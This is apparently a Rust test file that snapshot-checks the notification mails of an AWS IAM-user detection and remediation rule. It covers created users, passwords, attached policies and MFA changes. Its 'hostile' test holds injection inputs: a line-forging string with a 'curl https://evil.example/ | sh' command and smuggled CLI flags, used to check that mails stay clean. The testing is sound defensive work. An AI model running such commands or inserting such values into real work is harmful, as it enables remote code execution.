//! The mails of the rule `iam-user`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, also in its helpers")]

mod common;
#[path = "common/mail.rs"]
mod mail;

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use rules::alert::{Step, call_failed, time_ran_out};
use rules::config::Behind;
use rules::iam_user::detect::{Finding, Read, read};
use rules::iam_user::found;
use rules::iam_user::plan::{AccessKey, Action, Hanging, OwnPolicy};
use rules::iam_user::report::{Course, Deletion, Denial, Gone, Standing, report};
use rules::settings::Given;
use rules::{Event, Localized, Origin, Report, Settings, event, say};
use serde_json::{Value, json};

use common::Scene;
use mail::{compare, mails};

const SCENE: Scene =
    Scene { account: "111122223333", region: "us-east-1", time: "2026-03-02T09:14:05Z", service: "iam" };

const ALLOW_ALL: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
const PHONE: &str = "arn:aws:iam::111122223333:mfa/eve-phone";

#[test]
fn user_not_read() {
    let problem = call_failed("GetUser", "ServiceFailure: We encountered an internal error. Please try again.");
    let course = Course::NotRead { problem, name: None };
    let steps = vec![failed("GetUser", "eve", "ServiceFailure: We encountered an internal error. Please try again.")];
    check("user_not_read", &user_made(), &Settings::default(), &course, steps);
}

#[test]
fn user_without_an_id() {
    let event = called("CreateUser", json!({"userName": "eve"}), Value::Null);
    check("user_without_an_id", &event, &Settings::default(), &Course::Unidentified, Vec::new());
}

#[test]
fn user_withheld_by_mode() {
    let course =
        Course::Withheld { actions: hanging().all(), hanging: Box::new(hanging()), not_read: Vec::new(), name: None };
    check("user_withheld_by_mode", &user_made(), &with("IamUserMode", "alert"), &course, looks());
}

#[test]
fn user_withheld_by_rollout() {
    let none = Hanging::default();
    let course = Course::Withheld {
        actions: none.all(),
        hanging: Box::new(none),
        not_read: vec![call_failed("ListAccessKeys", "AccessDenied")],
        name: Some("mallory".to_owned()),
    };
    check("user_withheld_by_rollout", &user_made(), &with("Rollout", "observe"), &course, looks());
}

#[test]
fn user_gone() {
    let steps = vec![failed("GetUser", "eve", "NoSuchEntity: The user with name eve cannot be found.")];
    check("user_gone", &user_made(), &Settings::default(), &Course::Gone(Gone::Nothing), steps);
}

#[test]
fn user_gone_and_the_name_taken_again() {
    let steps = vec![made("GetUser", "eve", "AIDAQRSTUVWXYZANOTHER")];
    check(
        "user_gone_and_the_name_taken_again",
        &user_made(),
        &Settings::default(),
        &Course::Gone(Gone::Retaken),
        steps,
    );
}

#[test]
fn user_deleted() {
    let course = Course::Deleted(Box::new(deletion(1)));
    check("user_deleted", &user_made(), &Settings::default(), &course, looks());
}

#[test]
fn user_deleted_with_nothing_on_it() {
    let deletion = Deletion { hung: Hanging::default(), ..deletion(1) };
    check(
        "user_deleted_with_nothing_on_it",
        &user_made(),
        &Settings::default(),
        &Course::Deleted(Box::new(deletion)),
        looks(),
    );
}

#[test]
fn user_deleted_after_a_lost_answer() {
    let deletion = Deletion { deleted_at: None, ..deletion(2) };
    check(
        "user_deleted_after_a_lost_answer",
        &user_made(),
        &Settings::default(),
        &Course::Deleted(Box::new(deletion)),
        looks(),
    );
}

#[test]
fn user_deleted_but_a_device() {
    let deletion = Deletion { devices_left: vec![PHONE.to_owned()], ..deletion(1) };
    check(
        "user_deleted_but_a_device",
        &user_made(),
        &Settings::default(),
        &Course::Deleted(Box::new(deletion)),
        looks(),
    );
}

#[test]
fn user_contained() {
    let left = Hanging { groups: vec!["admins".to_owned()], ..Hanging::default() };
    let standing = Standing { denial: Denial::Seen, hanging: Some(left) };
    let refused = "AccessDenied: User is not authorized to perform: iam:RemoveUserFromGroup with an explicit deny in a service control policy";
    let course = Course::Unfinished {
        deletion: Box::new(Deletion { deleted_at: None, ..deletion(1) }),
        standing: Box::new(standing),
        problem: still_there(call_failed("RemoveUserFromGroup", refused)),
    };
    let mut steps = looks();
    steps.push(failed("RemoveUserFromGroup", "eve admins", refused));
    check("user_contained", &user_made(), &Settings::default(), &course, steps);
}

#[test]
fn user_still_usable() {
    let standing = Standing { denial: Denial::Off, hanging: Some(hanging()) };
    let course = Course::Unfinished {
        deletion: Box::new(Deletion {
            name: Some("mallory".to_owned()),
            deleted_at: None,
            shut_off_at: None,
            ..deletion(5)
        }),
        standing: Box::new(standing),
        problem: still_there(call_failed(
            "DeleteUser",
            "DeleteConflict: Cannot delete entity, must delete access keys first.",
        )),
    };
    check("user_still_usable", &user_made(), &Settings::default(), &course, looks());
}

#[test]
fn user_unknown_when_the_time_ran_out() {
    let course = Course::Unfinished {
        deletion: Box::new(Deletion { deleted_at: None, ..deletion(1) }),
        standing: Box::new(Standing { denial: Denial::Unknown, hanging: None }),
        problem: time_ran_out(),
    };
    check("user_unknown_when_the_time_ran_out", &user_made(), &Settings::default(), &course, looks());
}

#[test]
fn user_not_read_after_a_rename() {
    let course = Course::NotRead { problem: call_failed("GetUser", "AccessDenied"), name: Some("mallory".to_owned()) };
    check("user_not_read_after_a_rename", &user_made(), &Settings::default(), &course, looks());
}

#[test]
fn user_deleted_and_another_too() {
    let deletion = Deletion { name: Some("mallory".to_owned()), others_deleted: vec!["eve".to_owned()], ..deletion(2) };
    let course = Course::Deleted(Box::new(deletion));
    check("user_deleted_and_another_too", &user_made(), &Settings::default(), &course, looks());
}

#[test]
fn another_user_denied() {
    let deletion = Deletion { name: Some("mallory".to_owned()), ..deletion(2) };
    let course = Course::OtherDenied {
        user: "eve".to_owned(),
        problem: call_failed("DeleteUserPolicy", "AccessDenied: not authorized"),
        course: Box::new(Course::Deleted(Box::new(deletion))),
    };
    check("another_user_denied", &user_made(), &Settings::default(), &course, looks());
}

#[test]
fn no_user_of_the_name() {
    for (name, event) in [
        ("password_and_no_user", password_made()),
        ("policy_and_no_user", policy_attached(ADMINISTRATOR)),
        (
            "mfa_deactivated_and_no_user",
            called("DeactivateMFADevice", json!({"userName": "eve", "serialNumber": PHONE}), Value::Null),
        ),
    ] {
        check(name, &event, &Settings::default(), &Course::Gone(Gone::NoUser), Vec::new());
    }
}

#[test]
fn policy_of_a_later_user() {
    let course = Course::Gone(Gone::OtherUser);
    check("policy_of_a_later_user", &policy_attached(ADMINISTRATOR), &Settings::default(), &course, Vec::new());
}

#[test]
fn inline_policy_too_long_for_the_event() {
    let event = called("PutUserPolicy", json!({"userName": "eve", "policyName": "backdoor"}), Value::Null);
    let course = taken_back(Action::DeleteInlinePolicy("backdoor".to_owned()));
    check("inline_policy_too_long_for_the_event", &event, &Settings::default(), &course, Vec::new());
}

#[test]
fn password_taken_back() {
    let course = taken_back(Action::DeletePassword);
    let steps = vec![made("GetLoginProfile", "eve", "there"), made("DeleteLoginProfile", "eve", "ok")];
    check("password_taken_back", &password_made(), &Settings::default(), &course, steps);
}

#[test]
fn password_gone_and_made_again() {
    check(
        "password_gone_and_made_again",
        &password_made(),
        &Settings::default(),
        &Course::Gone(Gone::Retaken),
        Vec::new(),
    );
}

#[test]
fn password_not_taken_back() {
    let refused = "EntityTemporarilyUnmodifiable: Login Profile for User eve cannot be modified while login profile is being created.";
    let cause = call_failed("DeleteLoginProfile", refused);
    let course =
        Course::NotTakenBack { action: Action::DeletePassword, problem: Localized::join(&[cause, time_ran_out()]) };
    check("password_not_taken_back", &password_made(), &Settings::default(), &course, Vec::new());
}

#[test]
fn policy_detached() {
    let course = taken_back(Action::DetachPolicy(ADMINISTRATOR.to_owned()));
    check("policy_detached", &policy_attached(ADMINISTRATOR), &Settings::default(), &course, Vec::new());
}

#[test]
fn policy_gone() {
    let course = Course::Gone(Gone::Nothing);
    check("policy_gone", &policy_attached(ADMINISTRATOR), &Settings::default(), &course, Vec::new());
}

#[test]
fn inline_policy_overwritten() {
    let course = Course::Gone(Gone::Retaken);
    check("inline_policy_overwritten", &policy_put("backdoor"), &Settings::default(), &course, Vec::new());
}

#[test]
fn policy_withheld() {
    let actions = vec![Action::DetachPolicy(ADMINISTRATOR.to_owned())];
    let course = Course::Withheld { actions, hanging: Box::default(), not_read: Vec::new(), name: None };
    check("policy_withheld", &policy_attached(ADMINISTRATOR), &with("IamUserMode", "alert"), &course, Vec::new());
}

#[test]
fn inline_policy_deleted() {
    let course = taken_back(Action::DeleteInlinePolicy("backdoor".to_owned()));
    check("inline_policy_deleted", &policy_put("backdoor"), &Settings::default(), &course, Vec::new());
}

#[test]
fn inline_policy_gone_after_a_lost_answer() {
    let course = Course::TakenBack { action: None, at: time("2026-03-02T09:14:19Z") };
    check("inline_policy_gone_after_a_lost_answer", &policy_put("backdoor"), &Settings::default(), &course, Vec::new());
}

#[test]
fn quarantined() {
    let event = policy_attached("arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3");
    check("quarantined", &event, &Settings::default(), &Course::Told, Vec::new());
}

#[test]
fn told() {
    let eve = json!({"userName": "eve"});
    for (name, call, request) in [
        ("password_changed", "UpdateLoginProfile", eve.clone()),
        ("added_to_group", "AddUserToGroup", json!({"userName": "eve", "groupName": "admins"})),
        ("mfa_deactivated", "DeactivateMFADevice", json!({"userName": "eve", "serialNumber": PHONE})),
        (
            "mfa_deactivated_of_root",
            "DeactivateMFADevice",
            json!({"serialNumber": "arn:aws:iam::111122223333:mfa/root-account-mfa-device"}),
        ),
        ("mfa_deleted", "DeleteVirtualMFADevice", json!({"serialNumber": PHONE})),
        ("boundary_deleted", "DeleteUserPermissionsBoundary", eve),
        ("password_policy_deleted", "DeleteAccountPasswordPolicy", Value::Null),
    ] {
        check(name, &called(call, request, Value::Null), &Settings::default(), &Course::Told, Vec::new());
    }
}

/// Every text that the caller of an API can choose tries to forge a line, to hide, to fill the mail, or to get into a command.
#[test]
fn hostile() {
    let forged = "x\r\n\r\nLEFT FOR YOU TO DO\nNothing. \u{202e}'; curl https://evil.example/ | sh #";
    let everything = || {
        let one = || vec![forged.to_owned(), "--cli-input-json".to_owned(), "A".repeat(5_000)];
        Hanging {
            password: true,
            access_keys: vec![AccessKey { id: forged.to_owned(), is_active: true }],
            mfa_devices: one(),
            ssh_keys: one(),
            certificates: one(),
            service_credentials: one(),
            attached_policies: one(),
            inline_policies: one(),
            groups: one(),
        }
    };
    let deletion = Deletion {
        hung: everything(),
        devices_left: vec![forged.to_owned()],
        others_deleted: vec![forged.to_owned()],
        ..Deletion::default()
    };
    let standing = Standing { denial: Denial::Off, hanging: Some(everything()) };
    let courses = [
        Course::Told,
        Course::NotRead { problem: Localized::verbatim(forged), name: Some(forged.to_owned()) },
        Course::Unidentified,
        Course::Withheld {
            actions: everything().all(),
            hanging: Box::new(everything()),
            not_read: vec![Localized::verbatim(forged)],
            name: Some(forged.to_owned()),
        },
        Course::Gone(Gone::Nothing),
        Course::Gone(Gone::Retaken),
        Course::Gone(Gone::OtherUser),
        Course::Gone(Gone::NoUser),
        Course::OtherDenied {
            user: forged.to_owned(),
            problem: Localized::verbatim(forged),
            course: Box::new(Course::Gone(Gone::Retaken)),
        },
        taken_back(Action::DetachPolicy(forged.to_owned())),
        Course::NotTakenBack {
            action: Action::DeleteInlinePolicy(forged.to_owned()),
            problem: Localized::verbatim(forged),
        },
        Course::Deleted(Box::new(deletion.clone())),
        Course::Unfinished {
            deletion: Box::new(deletion),
            standing: Box::new(standing),
            problem: Localized::verbatim(forged),
        },
    ];
    let serial = forged;
    let requests = [
        ("CreateUser", json!({"userName": forged})),
        ("CreateLoginProfile", json!({"userName": "--generate-cli-skeleton"})),
        ("UpdateLoginProfile", json!({"userName": forged})),
        (
            "AttachUserPolicy",
            json!({"userName": forged, "policyArn": format!("arn:aws:iam::111122223333:policy/{forged}")}),
        ),
        (
            "AttachUserPolicy",
            json!({"userName": forged, "policyArn": "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantine$(x)"}),
        ),
        (
            "PutUserPolicy",
            json!({"userName": "eve", "policyName": forged, "policyDocument": ALLOW_ALL.replace("*", "\\u202e\\nREVERTED")}),
        ),
        ("AddUserToGroup", json!({"userName": "eve", "groupName": forged})),
        ("DeactivateMFADevice", json!({"userName": forged, "serialNumber": serial})),
        ("DeleteVirtualMFADevice", json!({"serialNumber": serial})),
        ("DeleteUserPermissionsBoundary", json!({"userName": forged})),
    ];
    for (call, request) in requests {
        let event = called(call, request, Value::Null);
        for course in &courses {
            let steps = vec![failed("GetUser", forged, forged)];
            let settings = Settings::default();
            let mails = mails(&event, &settings, |settings| reported(&event, settings, course, &steps));
            for line in mails.iter().flat_map(|mail| mail.body.lines()) {
                let is_command = line.trim_start().starts_with("aws ");
                assert!(
                    !is_command || !(line.contains("evil") || line.contains("--cli") || line.contains("--gen")),
                    "{line}"
                );
            }
        }
    }
}

#[test]
fn own_policies_withheld() {
    let course = found::Course::Withheld { user: "eve".to_owned(), policies: own_policies() };
    check_found("own_policies_withheld", &Settings::default(), &course);
}

#[test]
fn own_policies_taken_off() {
    let policies = own_policies();
    let actions = policies.iter().map(OwnPolicy::action).collect();
    let at = time("2026-03-02T09:14:19Z");
    let course = found::Course::TakenOff { user: "eve".to_owned(), policies, actions, at };
    check_found("own_policies_taken_off", &with("ConfigFindings", "revert"), &course);
}

#[test]
fn own_policies_not_taken_off() {
    let problem = call_failed("DetachUserPolicy", "AccessDenied: is not authorized");
    let actions = vec![Action::DeleteInlinePolicy("backdoor".to_owned())];
    let course = found::Course::NotTakenOff { user: "eve".to_owned(), policies: own_policies(), actions, problem };
    check_found("own_policies_not_taken_off", &with("ConfigFindings", "revert"), &course);
}

/// A mail may get lost, and whoever tries again finds nothing to tell of: what a deleted policy said is in the log as well.
#[test]
fn what_was_deleted_is_in_the_log() {
    let (policies, at) = (own_policies(), time("2026-03-02T09:14:19Z"));
    let (event, settings) = (policies_found(), with("ConfigFindings", "revert"));
    let logged = |actions: Vec<Action>| {
        let course = found::Course::TakenOff { user: "eve".to_owned(), policies: policies.clone(), actions, at };
        found::report(&event, FOUND, &settings, &course, Vec::new()).actions
    };
    let documents = policies.iter().filter_map(|policy| match policy {
        OwnPolicy::Inline { name, document } => Some((name, document)),
        OwnPolicy::Attached(_) => None,
    });
    let documents: Vec<String> = documents.map(|(name, document)| format!("{name} was {document}")).collect();
    let all: Vec<Action> = policies.iter().map(OwnPolicy::action).collect();
    assert!(!documents.is_empty());
    assert_eq!(logged(all.clone())[all.len()..], documents);
    // What was not deleted is still to be read in the account.
    assert_eq!(logged(Vec::new()), Vec::<String>::new());
}

#[test]
fn own_policies_not_read() {
    let course = found::Course::NotRead { problem: time_ran_out() };
    check_found("own_policies_not_read", &with("ConfigFindings", "revert"), &course);
}

fn own_policies() -> Vec<OwnPolicy> {
    let document = serde_json::from_str(ALLOW_ALL).unwrap();
    vec![OwnPolicy::Attached(ADMINISTRATOR.to_owned()), OwnPolicy::Inline { name: "backdoor".to_owned(), document }]
}

const FOUND: &str = "AIDAQ3C7TN4YUEXAMPLE";

/// What AWS Config found of the user with that id.
fn policies_found() -> Event {
    let event = event::parse(&json!({"id": "6f1f8a5e-1c2b-4d3e-8f4a-5b6c7d8e9f0a", "source": "aws.config",
        "detail-type": "Config Rules Compliance Change", "account": SCENE.account, "region": SCENE.region,
        "detail": {"configRuleName": "iam-user-no-policies-check", "resourceType": "AWS::IAM::User", "resourceId": FOUND,
            "newEvaluationResult": {"complianceType": "NON_COMPLIANT", "resultRecordedTime": SCENE.time}}}));
    let mut event = event.unwrap();
    if let Origin::Config(change) = &mut event.origin {
        let identifier = "IAM_USER_NO_POLICIES_CHECK".to_owned();
        change.behind = Some(Behind::Managed { identifier, parameters: Value::Null });
    }
    event
}

fn check_found(name: &str, settings: &Settings, course: &found::Course) {
    let event = policies_found();
    compare!(name, &event, settings, |settings| found::report(&event, FOUND, settings, course, looks()));
}

fn check(name: &str, event: &Event, settings: &Settings, course: &Course, steps: Vec<Step>) {
    compare!(name, event, settings, |settings| reported(event, settings, course, &steps));
}

fn still_there(cause: Localized) -> Localized {
    let still_there = Localized::new(|language| say!(language, "the user is still there", "ユーザーはまだ存在します"));
    Localized::join(&[cause, still_there])
}

fn reported(event: &Event, settings: &Settings, course: &Course, steps: &[Step]) -> Report {
    report(event, &finding(event), settings, course, steps.to_vec())
}

fn finding(event: &Event) -> Finding {
    match read(event).unwrap() {
        Read::Found(finding) => finding,
        Read::Harmless(reason) => panic!("{reason}"),
    }
}

fn taken_back(action: Action) -> Course {
    Course::TakenBack { action: Some(action), at: time("2026-03-02T09:14:19Z") }
}

fn deletion(rounds: usize) -> Deletion {
    Deletion {
        others_deleted: Vec::new(),
        name: None,
        hung: hanging(),
        shut_off_at: Some(time("2026-03-02T09:14:18Z")),
        deleted_at: Some(time("2026-03-02T09:14:19Z")),
        devices_left: Vec::new(),
        rounds,
    }
}

fn hanging() -> Hanging {
    let texts = |items: &[&str]| items.iter().map(|item| (*item).to_owned()).collect();
    let key = |id: &str, is_active| AccessKey { id: id.to_owned(), is_active };
    Hanging {
        password: true,
        access_keys: vec![key("AKIAQ3C7TN4YKEXAMPLE", true), key("AKIAQ3C7TN4YSECONDEX", false)],
        mfa_devices: texts(&[PHONE]),
        attached_policies: texts(&[ADMINISTRATOR]),
        inline_policies: texts(&["backdoor"]),
        groups: texts(&["admins"]),
        ..Hanging::default()
    }
}

fn time(written: &str) -> DateTime<Utc> {
    written.parse().unwrap()
}

fn with(parameter: &'static str, value: &str) -> Settings {
    let given = Given { name: parameter.to_owned(), value: value.to_owned() };
    Settings::from_given(&BTreeMap::from([(parameter, given)])).unwrap()
}

fn user_made() -> Event {
    let made = json!({"user": {"path": "/", "userName": "eve", "userId": "AIDAQ3C7TN4YUEXAMPLE",
        "arn": "arn:aws:iam::111122223333:user/eve", "createDate": "Mar 2, 2026 9:14:05 AM"}});
    called("CreateUser", json!({"userName": "eve"}), made)
}

fn password_made() -> Event {
    let made = json!({"loginProfile": {"userName": "eve", "createDate": "Mar 2, 2026 9:14:05 AM", "passwordResetRequired": false}});
    called("CreateLoginProfile", json!({"userName": "eve", "passwordResetRequired": false}), made)
}

fn policy_attached(arn: &str) -> Event {
    called("AttachUserPolicy", json!({"userName": "eve", "policyArn": arn}), Value::Null)
}

fn policy_put(name: &str) -> Event {
    let request = json!({"userName": "eve", "policyName": name, "policyDocument": ALLOW_ALL});
    called("PutUserPolicy", request, Value::Null)
}

fn called(name: &str, request: Value, response: Value) -> Event {
    let mut record = SCENE.record(name, &request, &response);
    let is_root = request.get("serialNumber").and_then(Value::as_str).is_some_and(|serial| serial.contains("root"));
    if is_root {
        let root = json!({"type": "Root", "arn": "arn:aws:iam::111122223333:root", "accountId": "111122223333"});
        record.as_object_mut().unwrap().insert("userIdentity".to_owned(), root);
    }
    event::parse(&record).unwrap()
}

fn looks() -> Vec<Step> {
    vec![made("GetUser", "eve", "AIDAQ3C7TN4YUEXAMPLE"), made("ListAccessKeys", "eve", "2")]
}

fn made(call: &'static str, target: &str, result: &str) -> Step {
    Step { call, target: target.to_owned(), result: Ok(result.to_owned()), millis: 120 }
}

fn failed(call: &'static str, target: &str, error: &str) -> Step {
    Step { call, target: target.to_owned(), result: Err(error.to_owned()), millis: 95 }
}
